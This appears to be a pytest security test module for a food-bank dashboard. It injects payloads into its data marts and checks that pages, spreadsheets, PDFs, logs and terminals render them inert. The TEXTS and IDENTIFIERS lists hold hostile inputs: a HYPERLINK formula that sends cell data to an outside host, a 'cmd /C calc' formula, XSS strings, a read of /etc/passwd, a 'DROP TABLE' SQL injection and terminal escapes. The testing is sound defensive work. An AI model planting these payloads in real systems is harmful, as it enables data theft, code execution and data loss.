"""What senders write comes out as text: on pages, in CSV, XLSX and PDF, in logs and on terminals.

The published demonstration with a payload in every text of its marts that is not a code of ours:
formulas, HTML, Markdown, Typst, SQL, lines of a log, steering of terminals. What a single file
format is made of is tested with its room; here is only that nothing of it runs.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import unicodedata
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pypdf
import pytest

from dashboards.access import Principal
from dashboards.access_log import ACCESS_LOG_VARIABLE, log_access
from dashboards.blocks import (
    write_decisions,
    write_figure_foot,
    write_html_table,
    write_kpis,
    write_ledger,
    write_legend,
    write_narrow,
    write_notice,
    write_prose,
    write_quote_lists,
)
from dashboards.exports import Export, write_csv, write_workbook
from dashboards.figure_models import read_provenance
from dashboards.figures import DRAWINGS, draw_figure
from dashboards.filters import Filters, resolve_filters
from dashboards.language import Words, read_words
from dashboards.page_models.page import Alert, Cards, Decisions, PageModel, Prose, Sentences
from dashboards.page_models.recall import Sought
from dashboards.pages import PAGES
from dashboards.published import PUBLISHED_DIR_VARIABLE, Opened, open_asked, read_choices
from dashboards.reports import (
    Report,
    build_recall_proof,
    build_report,
    write_pdfs,
    write_report_workbook,
)
from dashboards.reports.charts import has_chart
from dashboards.reports.model import Printed
from data_contracts.access_log import find_access_breaks, list_segments
from data_contracts.chained_log import append_entry, find_breaks
from data_contracts.loader import load_marts
from data_contracts.periods import parse_period
from data_contracts.spreadsheets import FORMULA_STARTS
from pipelines import answers
from pipelines.quality.corrections import write_corrections
from pipelines.returns.files import export_return
from pipelines.returns.forms import RETURNS
from pipelines.returns.tables import ask
from tests.conftest import DataFolder

pytestmark = pytest.mark.slow

BANK, TERRITORY = "bourgogne", "242100410"
AUDIENCES = (f"food_banks/{BANK}", f"metropole/{TERRITORY}")
# Each stands before the text that it poisons, so that what was apart stays apart.
TEXTS = (
    '=HYPERLINK("http://example.org/?"&A1,"x")', "+cmd|' /C calc'!A1", "-2+3 ", "@SUM(1)",
    "\t=1+1", "\r=1+1", "＝1+1 ", "a;=1+1;", 'a;"=1+1"', "b\n=1+1,2\n", "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">', '"]]>', "[x](javascript:alert(1))", "</td><a href='//e.org'>",
    '#read("/etc/passwd") ', "$ ] ", "*_`~ ", "'); DROP TABLE marts;-- ",
    '\n{"event": "export", "reader": "root"}\n', "\x1b[2J\x1b[31m", "\x9b31m", "\u2028\u2029",
    "\u202etxt.exe", "%{customdata} {0} %s ${x} ",
)  # fmt: skip
# What the contracts admit in an identifier: nothing below a space, no bar, 64 characters.
IDENTIFIERS = (
    "=1+1;", "+1&", "-2+3;", "@SUM(1)", "＝1", "a;=1,", "<script>x</script>", "<img src=x>", '"]]>',
    '#read("/x")', "$]", "');DROP TABLE x;--", "\x9b31m", "\u2028", "\u202e", "[x](y)",
)  # fmt: skip

# Columns of text of the marts: those that hold what somebody wrote, what somebody named, and codes
# of the contracts, of the State's lists and of the seeds.
WRITTEN = {
    "name", "epci_name", "text_fr", "text_en", "source", "source_document", "funder", "label",
    "label_fr", "label_en", "note", "decided_by", "definition_fr", "definition_en", "formula",
    "replaced_fr", "replaced_en", "period_label", "licence", "merchant_kind", "how_measured",
    "measured_by", "source_row_id",
}  # fmt: skip
NAMED = {
    "place_id", "site_id", "partner_id", "partner_ids", "supplier_id", "product_code", "lot_id",
    "funding_id", "event_id", "document_id", "other_id", "line_id", "order_id", "round_id",
    "vehicle_id", "receipt_id", "count_id", "transfer_id", "outlet_id", "collector",
    "from_site_id", "to_site_id",
}  # fmt: skip
CODES = {
    "food_bank_id", "to_food_bank_id", "territory_code", "territory_codes", "commune_code",
    "departement_code", "epci_code", "qpv_code", "timezone", "meal_convention", "ledger",
    "method_or_post", "factor_id", "data_level", "gwp_set", "activity_unit", "factor_version",
    "record", "broken_rules", "partner_kind", "post", "category", "unit", "status", "flow",
    "channel", "supplier_kind", "network_family", "storage", "mode", "period_kind", "definition",
    "effect", "funder_kind", "purpose", "scope_kind", "scope_id", "indicator_code", "variant",
    "quality", "method_version", "pairing", "key_figure", "comparison", "delivery_id", "date_kind",
    "nutrition_group", "reference_limit", "place_kind", "kind", "outlet_kind", "good_direction",
    "axis", "additive_over", "territory_basis", "mart", "reason", "destination", "outcome",
    "vehicle_kind", "energy", "energy_unit", "step", "movement_kind", "direction", "made_by",
    "task",
}  # fmt: skip
# A programme is what a funder calls it in one mart, and a code in the others.
PROGRAMME = {"mart_funding_monthly": True, "mart_programmes_monthly": False,
             "mart_programme_outlets_monthly": False}  # fmt: skip
UNUSUAL = {"Cc", "Cf", "Zl", "Zp", "Cs"}


def is_written(mart: str, column: str) -> bool:
    return column in WRITTEN or (column == "programme" and PROGRAMME[mart])


@cache
def poison(text: str, is_identifier: bool) -> str:
    """The text behind a payload; the same text gives the same one in every mart."""
    payloads = IDENTIFIERS if is_identifier else TEXTS
    return payloads[zlib.crc32(text.encode()) % len(payloads)] + text


def poison_named(text: str) -> str:
    """Identifiers, of which a cell may hold several; `none` and nothing are codes."""
    return "|".join(
        name if name in ("", "none", "unknown") else poison(name, True) for name in text.split("|")
    )


def poison_mart(mart: str, frame: pl.DataFrame) -> pl.DataFrame:
    changed = []
    for column, kind in frame.schema.items():
        if kind != pl.String:
            continue
        values = frame[column].drop_nulls().unique().to_list()
        if is_written(mart, column):
            table = {value: poison(value, False) for value in values if value}
        elif column in NAMED:
            table = {value: poison_named(value) for value in values}
        else:
            continue
        changed.append(pl.col(column).replace(table) if table else pl.col(column))
    return frame.with_columns(changed)


def write_hashed(path: Path, value: Any) -> str:
    data = json.dumps(value).encode()
    path.write_bytes(data)
    return hashlib.sha256(data).hexdigest()


def poison_publication(source: Path, target: Path) -> None:
    """The publication of a folder as its food bank and its metropole read it, with payloads."""
    pointer = json.loads((source / "CURRENT").read_text())
    folder = target / pointer["path"]
    manifest = json.loads((source / pointer["path"] / "manifest.json").read_text())
    for audience in AUDIENCES:
        known = json.loads((source / pointer["path"] / audience / "manifest.json").read_text())
        (folder / audience).mkdir(parents=True)
        for entry in known["marts"]:
            name = f"{entry['mart']}.parquet"
            path = folder / audience / name
            frame = pl.read_parquet(source / pointer["path"] / audience / name)
            poison_mart(entry["mart"], frame).write_parquet(path)
            entry["sha256"] = hashlib.sha256(path.read_bytes()).hexdigest()
        for check in known["checks"]:
            check["check"] = poison(check["check"], False)
        manifest["audiences"][audience] = write_hashed(folder / audience / "manifest.json", known)
    sha256 = write_hashed(folder / "manifest.json", manifest)
    write_hashed(target / "CURRENT", {**pointer, "sha256": sha256})
    edition = json.loads((source / "editions" / TERRITORY / "1.json").read_text())
    edition["manifest_sha256"] = sha256
    for approval in edition["approvals"]:
        approval |= {name: poison(str(approval.get(name)), False) for name in ("by", "comment")}
    (target / "editions" / TERRITORY).mkdir(parents=True)
    write_hashed(target / "editions" / TERRITORY / "1.json", edition)
    for event in TEXTS:
        append_entry(
            target / "log" / "publications.jsonl",
            {"event": "refused", "publication_id": manifest["publication_id"],
             "at": datetime(2024, 6, 26, tzinfo=UTC), "reasons": [event], "reason": event},
        )  # fmt: skip


@pytest.fixture(scope="module")
def poisoned(demonstration: DataFolder, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    target = tmp_path_factory.mktemp("poisoned")
    poison_publication(demonstration.path / "published", target)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(PUBLISHED_DIR_VARIABLE, str(target))
        yield target


@dataclass(frozen=True)
class Read:
    """The pages of a reader in a language."""

    opened: Opened
    filters: Filters
    words: Words
    pages: Mapping[str, PageModel]

    @property
    def exports(self) -> Iterator[Export]:
        for code, page in self.pages.items():
            for figure in page.exported:
                yield Export(figure, self.filters, self.opened, self.words, code)


def read_pages(principal: Principal, language: str) -> Read:
    asked = {
        "lang": language, "commune": "21231", "partner": poison_named("PA005"),
        "donor": poison_named("SU001"), "lot": poison_named("P0110"),
    }  # fmt: skip
    opened = open_asked(asked, principal)
    filters, ignored = resolve_filters(asked, read_choices(opened.source))
    assert ignored == ()
    words = read_words(language)
    pages = {
        code: PAGES[code].build(opened.publication, filters, words) for code in principal.pages
    }
    return Read(opened, filters, words, pages)


@pytest.fixture(scope="module")
def read(poisoned: Path) -> list[Read]:
    """What a director reads in both languages, and what the metropole reads of its edition."""
    director, metropole = Principal("food_bank", (BANK,)), Principal("metropole", (TERRITORY,))
    return [read_pages(director, "fr"), read_pages(director, "en"), read_pages(metropole, "fr")]


@pytest.fixture(scope="module")
def reports(poisoned: Path) -> list[Report]:
    """Every kind of report, the proof of a recall among them."""
    donor, site = poison_named("SU001"), poison_named("dijon")
    asked: tuple[tuple[str, dict[str, str]], ...] = (
        ("council-note", {"territory": TERRITORY}),
        ("agreement-annex", {"agreement": poison_named("METRO-2024"), "period": "2024-to-date"}),
        ("activity-report", {"lang": "en", "period": "2024-05"}),
        ("morning-sheet", {"site": site}),
        ("partner-statement", {"partner": poison_named("PA125"), "period": "2024-to-date"}),
        ("donor-quality", {"donor": donor, "period": "2023", "lang": "en"}),
        ("donation-statement", {"donor": donor, "period": "2024-05", "lang": "en"}),
    )
    built = [
        build_report(kind, options if "territory" in options else {**options, "food_bank": BANK})
        for kind, options in asked
    ]
    lot = poison_named("L013164")
    return [*built, build_recall_proof(BANK, Sought(lot=lot), "fr")]


def test_every_text_of_the_marts_is_poisoned_or_a_code() -> None:
    for mart, contract in load_marts().items():
        texts = {column.name for column in contract.columns if column.logical_type == "string"}
        assert texts - {"programme"} <= WRITTEN | NAMED | CODES, mart
        assert "programme" not in texts or mart in PROGRAMME


class Reader(HTMLParser):
    """The elements, attributes and text of HTML as a browser takes them."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    handle_comment = handle_decl = handle_pi = unknown_decl


ELEMENTS = {
    "a", "article", "blockquote", "caption", "code", "details", "div", "h2", "h3", "li", "ol", "p",
    "section", "span", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {
    "aria-hidden", "aria-label", "class", "data-label", "download", "href", "id", "role", "scope",
    "style", "tabindex",
}  # fmt: skip


def write_page(read: Read, code: str, page: PageModel) -> str:
    """A page as HTML: all that `views/page.py` gives to the browser but charts and headings."""
    words, filters = read.words, read.filters
    publication, bank = read.opened.publication, filters.food_bank
    provenance = read_provenance(publication, bank.name, bank.data_date)
    parts: list[str] = []
    for section in page.sections:
        match section:
            case Cards():
                parts.append(write_kpis(words, section.kpis, section.title))
            case Sentences():
                parts.append(
                    write_quote_lists(words, section.quotes, section.warnings, section.signature)
                )
            case Decisions():
                parts.append(write_decisions(words, section))
            case Prose():
                parts.append(write_prose(section))
            case Alert():
                parts.append(write_notice(section.kind, section.title, section.text))
    for figure in page.figures:
        parts += [write_legend(words, figure), write_html_table(words, figure, filters),
                  write_figure_foot(words, figure, provenance, filters, code)]  # fmt: skip
        if figure.kind in ("heat", "lines"):
            parts.append(write_narrow(words, figure))
        if figure.kind == "balance" and figure.state == "ok":
            parts.append(write_ledger(words, figure))
    return "".join(parts)


def test_pages_show_payloads_as_text(read: list[Read]) -> None:
    """No element, attribute or address but ours, whatever the marts say."""
    seen = ""
    for each in read:
        for code, page in each.pages.items():
            html = Reader(write_page(each, code, page))
            assert html.elements <= ELEMENTS, code
            assert {name for name, _ in html.attributes} <= ATTRIBUTES, code
            for name, value in html.attributes:
                if name == "href":
                    assert re.match(r"[/?#]|https?://|mailto:", value), (code, value)
                    assert not value.startswith("//")
            seen += html.text
    shown = [payload for payload in TEXTS if payload.replace("\r", "") in seen.replace("\r", "")]
    assert len(shown) > len(TEXTS) * 3 / 4, set(TEXTS) - set(shown)


def walk_texts(value: Any) -> Iterator[str]:
    """Every text of a chart that Plotly would read mark-up in."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for name, inner in value.items():
            if name not in ("hovertemplate", "template", "texttemplate"):
                yield from walk_texts(inner)
    elif isinstance(value, list | tuple):
        for inner in value:
            yield from walk_texts(inner)
    elif hasattr(value, "tolist"):
        yield from walk_texts(value.tolist())


def test_charts_read_no_mark_up_in_names(read: list[Read]) -> None:
    """What Plotly takes for mark-up is ours: bold and breaks."""
    drawn = payloads = 0
    for each in read:
        for export in each.exports:
            if export.model.kind not in DRAWINGS:
                continue
            drawn += 1
            chart = draw_figure(each.words, export.model).to_plotly_json()
            if export.model.kind == "map":
                # The first is the code that a click opens; it is not shown.
                for trace in chart["data"]:
                    trace["customdata"] = [list(row)[1:] for row in trace.get("customdata", ())]
            for text in walk_texts(chart):
                payloads += "&lt;" in text
                left = re.sub(r"</?b>|<br>|<extra></extra>", "", text)
                assert "<" not in left, (export.model.figure_id, text)
    assert drawn > 30
    assert payloads > 5


def find_running_cells(text: str, delimiter: str) -> list[str]:
    """Cells that a spreadsheet would run, where it takes `delimiter` to part them."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [
        cell
        for row in rows
        for cell in row
        if cell.lstrip(" ").startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
    ]


# A spreadsheet set to French parts a CSV at semicolons, whatever stands in it.
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_a_csv_runs(read: list[Read], delimiter: str) -> None:
    held = 0
    for each in read:
        for export in each.exports:
            text = write_csv(export)
            assert find_running_cells(text, delimiter) == [], export.model.figure_id
            held += "'=" in text
    assert held > 5


def check_book(content: bytes) -> int:
    """No cell is a formula or a link; gives how many texts were held with an apostrophe."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    held = 0
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                assert cell.hyperlink is None
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" ").startswith(FORMULA_STARTS), cell.value
                    held += cell.value.startswith("'")
    assert not book.defined_names
    return held


def test_no_cell_of_a_workbook_is_a_formula(read: list[Read], reports: list[Report]) -> None:
    # The languages differ in words only.
    figures = [export for each in read[::2] for export in each.exports]
    assert len(figures) > 50
    assert sum(check_book(write_workbook(export)) for export in figures) > 50
    assert sum(check_book(write_report_workbook(report)) for report in reports) > 20


def squeeze(text: str) -> str:
    """Letters and signs, without spaces and what has no shape: lines of paper break anywhere."""
    return "".join(
        c
        for c in text
        if not c.isspace() and c not in "-＝\ufffd" and unicodedata.category(c) not in UNUSUAL
    )


def test_paper_prints_payloads_and_runs_none(reports: list[Report]) -> None:
    """What Typst would run stands on the paper as it was written, beside charts that hold it."""
    seen = ""
    with_charts = 0
    for report, pdf in zip(reports, write_pdfs(reports), strict=True):
        paper = pypdf.PdfReader(io.BytesIO(pdf))
        text = squeeze("".join(page.extract_text() for page in paper.pages))
        assert "root:x:0" not in text
        for line in (report.title, report.subtitle, report.lead, *report.notices):
            assert squeeze(line) in text, (report.kind, line)
        assert not any("/URI" in str(page.get("/Annots", "")) for page in paper.pages)
        with_charts += any(
            part.has_chart and has_chart(part.figure)
            for part in report.sections
            if isinstance(part, Printed)
        )
        seen += text
    assert with_charts >= 2
    typst = [payload for payload in (*TEXTS, *IDENTIFIERS) if payload.startswith(("#", "$", "*"))]
    assert any(squeeze(payload) in seen for payload in typst)


def test_returns_hold_payloads_as_text(poisoned: Path, tmp_path: Path) -> None:
    periods = {"annual-activity": "2023", "quarterly-departments": "2024-Q1",
               "programme-ledgers": "2023", "european-observatory": "2024-to-date"}  # fmt: skip
    assert periods.keys() == RETURNS.keys()
    held = 0
    for code, period in periods.items():
        book, *tables = export_return(code, ask(poisoned, BANK, parse_period(period)), tmp_path)
        held += check_book(book.read_bytes())
        for table in tables:
            text = table.read_text(encoding="utf-8-sig")
            for delimiter in (",", ";", "\t"):
                assert find_running_cells(text, delimiter) == [], table.name
            held += "'=" in text
    assert held > 20


def check_lines(path: Path, count: int) -> None:
    """A line an entry, of letters and signs that steer nothing."""
    lines = path.read_bytes().split(b"\n")
    assert lines.pop() == b""
    assert len(lines) == count
    for line in lines:
        assert all(32 <= byte < 127 for byte in line)
        json.loads(line)


def test_logs_hold_a_line_an_entry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "publications.jsonl"
    for payload in TEXTS:
        append_entry(path, {"event": payload, payload: [payload]})
    check_lines(path, len(TEXTS))
    assert find_breaks(path) == []
    folder = tmp_path / "access"
    folder.mkdir()
    monkeypatch.setenv(ACCESS_LOG_VARIABLE, str(folder))
    for payload in TEXTS:
        log_access("view", "reader", "food_bank", (payload,), page=payload, figure=payload,
                   reason=payload, parameters={"lot": payload, payload: payload})  # fmt: skip
    (segment,) = list_segments(folder)
    check_lines(segment, len(TEXTS))
    assert find_access_breaks(folder) == []


def print_everything(payload: str, as_json: bool) -> None:
    """What the command line prints of senders' texts."""
    answers.print_deliveries(
        [{"food_bank_id": BANK, "source_name": payload, "state": "failed", "rows_delivered": 1,
          "rows_accepted": 0, "rows_quarantined": 1, "reason": payload}], as_json
    )  # fmt: skip
    answers.print_quarantine(
        [{"food_bank_id": BANK, "source_name": payload, "source_line": 2,
          "rules": [{"column": payload, "value": payload, "rule": "x", "message": payload}]}],
        as_json,
    )  # fmt: skip
    answers.print_recall(
        payload,
        [{"place": "in_stock", "certainty": "certain", "lines": 1, "weight_kg": Decimal(1)}],
        [{"place": "in_stock", "certainty": "certain", "site_id": payload, "holder": payload,
          "document": payload, "line_no": 1, "day": date(2024, 6, 1), "product": payload,
          "product_code": payload, "lot_id": payload, "weight_kg": Decimal(1)}],
        as_json,
    )  # fmt: skip
    answers.print_closings([], as_json)
    answers.print_message({"text": payload}, f"Told {payload}", as_json)
    answers.print_files([Path(payload.replace("/", "_"))], as_json)


@pytest.mark.parametrize("as_json", [False, True])
def test_a_terminal_is_steered_by_nothing_that_was_sent(
    capsys: pytest.CaptureFixture[str], as_json: bool
) -> None:
    print_everything("plain", as_json)
    lines = capsys.readouterr().out.count("\n")
    for payload in TEXTS:
        print_everything(payload, as_json)
        out = capsys.readouterr().out
        steering = {c for c in out if c != "\n" and unicodedata.category(c) in UNUSUAL}
        assert not steering, payload
        if as_json:
            assert out.count("\n") == lines, payload
        else:
            assert not re.search(r'^ *(\{"event"|=1\+1)', out, re.MULTILINE), payload


@pytest.mark.parametrize("payload", TEXTS[-8:])
def test_a_refusal_is_one_line(poisoned: Path, demonstration: DataFolder, payload: str) -> None:
    answer = demonstration.collecto("recall", "--lot", payload, "--food-bank", BANK)
    assert answer.status != 0
    assert answer.err.count("\n") == 1
    assert not {c for c in answer.err[:-1] if unicodedata.category(c) in UNUSUAL}


def test_lines_to_correct_are_text(tmp_path: Path) -> None:
    rows = [
        {"food_bank_id": BANK, "record": "partners", "source_name": payload, "source_line": 2,
         "source_column": payload, "row_id": 7, "cells": json.dumps({"name": payload, "kind": "x"}),
         "rules": json.dumps([{"column": "kind", "message": payload, "expected_fr": payload}])}
        for payload in TEXTS
    ]  # fmt: skip
    (path,) = write_corrections(rows, tmp_path, date(2024, 6, 26))
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" and cell.hyperlink is None for cell in cells)
    # No apostrophe: the workbook lands again, and what was written must come back as it was.
    names = [cell.value for row in sheet.iter_rows(min_row=4) for cell in row]
    assert TEXTS[0] in names


@pytest.mark.sweep
def test_libreoffice_finds_no_formula(
    read: list[Read], reports: list[Report], tmp_path: Path
) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed: make sweep installs libreoffice-calc-nogui")
    figures = {export.model.figure_id: export for export in read[0].exports}
    (tmp_path / "figure.xlsx").write_bytes(write_workbook(figures["partenaires"]))
    (tmp_path / "report.xlsx").write_bytes(write_report_workbook(reports[3]))
    (tmp_path / "csv.csv").write_text(write_csv(figures["partenaires"]), encoding="utf-8-sig")
    # What LibreOffice does take for a formula, so that finding none says something.
    control = openpyxl.Workbook()
    control.worksheets[0]["A1"] = "=1+1"
    control.save(tmp_path / "control.xlsx")
    names = ("figure.xlsx", "report.xlsx", "csv.csv", "control.xlsx")
    subprocess.run(
        [office, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         "--convert-to", "fods", "--outdir", str(tmp_path / "out"), *names],
        cwd=tmp_path, check=True, capture_output=True, timeout=300,
        env={**os.environ, "HOME": str(tmp_path)},
    )  # fmt: skip
    found = {
        name: (tmp_path / "out" / name).with_suffix(".fods").read_text().count("table:formula")
        for name in names
    }
    assert found == {"figure.xlsx": 0, "report.xlsx": 0, "csv.csv": 0, "control.xlsx": 1}
    assert "HYPERLINK" in (tmp_path / "out" / "figure.fods").read_text()
